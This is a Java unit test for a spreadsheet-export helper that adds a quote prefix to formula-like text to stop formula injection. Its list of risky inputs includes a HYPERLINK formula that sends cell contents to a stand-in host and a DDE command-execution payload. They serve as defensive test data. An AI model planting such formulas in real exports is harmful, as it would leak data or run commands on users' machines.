package org.cohorte.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Font;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.streaming.SXSSFWorkbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.cohorte.base.export.SpreadsheetText;
import org.junit.jupiter.api.Test;

/** Text a spreadsheet could run gets the quote prefix and keeps its value; everything else is left alone. */
class SpreadsheetTextTest {

    /** Texts a spreadsheet would read as a formula once the cell is edited (OWASP, ASVS 1.2.10). */
    static final List<String> RISKY = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")", "+1+1", "-2",
            "@SUM(A1)", "\t=1", "\r=1", "=", "-1+2", "- liste", "=cmd|' /C calc'!A0");
    /** Texts that look close but are no formula: they stay exactly as they are, without a prefix. */
    static final List<String> PLAIN = List.of("-", "+", "Texte normal", " =1", "2", "a=b", "'=1", "—", "", "−2");

    @Test
    void formula_like_text_is_recognised_by_its_first_character() {
        RISKY.forEach(text -> assertThat(SpreadsheetText.isFormulaLike(text)).as(text).isTrue());
        PLAIN.forEach(text -> assertThat(SpreadsheetText.isFormulaLike(text)).as(text).isFalse());
        assertThat(SpreadsheetText.isFormulaLike(null)).isFalse();
        assertThat(SpreadsheetText.isFormulaLike("\0=1")).isTrue();
    }

    @Test
    void streamed_and_in_memory_workbooks_keep_risky_text_as_quote_prefixed_strings() throws IOException {
        check(new SXSSFWorkbook(10));
        check(new XSSFWorkbook());
    }

    private static void check(Workbook workbook) throws IOException {
        CellStyle bold = workbook.createCellStyle();
        Font font = workbook.createFont();
        font.setBold(true);
        bold.setFont(font);
        SpreadsheetText texts = new SpreadsheetText(workbook);
        Sheet sheet = workbook.createSheet("Feuille");
        int r = 0;
        for (String text : RISKY) {
            Row row = sheet.createRow(r++);
            texts.write(row, 0, text);
            texts.write(row, 1, text, bold);
        }
        for (String text : PLAIN) {
            Row row = sheet.createRow(r++);
            texts.write(row, 0, text);
            texts.write(row, 1, text, bold);
        }
        Row numbers = sheet.createRow(r);
        numbers.createCell(0).setCellValue(-2);
        texts.write(numbers, 1, null);
        int styles = workbook.getNumCellStyles();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        workbook.write(out);
        workbook.close();

        try (XSSFWorkbook read = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            Sheet s = read.getSheet("Feuille");
            int i = 0;
            for (String text : RISKY) {
                assertCell(s.getRow(i).getCell(0), text, true, false);
                assertCell(s.getRow(i).getCell(1), text, true, true);
                i++;
            }
            for (String text : PLAIN) {
                assertCell(s.getRow(i).getCell(0), text, false, false);
                assertCell(s.getRow(i).getCell(1), text, false, true);
                i++;
            }
            Cell number = s.getRow(i).getCell(0);
            assertThat(number.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(number.getNumericCellValue()).isEqualTo(-2.0);
            assertThat(number.getCellStyle().getQuotePrefixed()).isFalse();
            assertThat(s.getRow(i).getCell(1).getCellType()).isEqualTo(CellType.BLANK);
        }
        // Default + bold, and one quote-prefixed twin of each: not one style per cell.
        assertThat(styles).isEqualTo(4);
    }

    private static void assertCell(Cell cell, String text, boolean prefixed, boolean bold) {
        String what = "'" + text.replace("\t", "\\t").replace("\r", "\\r") + "' in " + cell.getAddress();
        assertThat(cell.getCellType()).as(what).isEqualTo(CellType.STRING);
        assertThat(cell.getStringCellValue()).as(what).isEqualTo(text);
        assertThat(cell.getCellStyle().getQuotePrefixed()).as(what).isEqualTo(prefixed);
        assertThat(cell.getSheet().getWorkbook().getFontAt(cell.getCellStyle().getFontIndex()).getBold()).as(what)
                .isEqualTo(bold);
    }
}
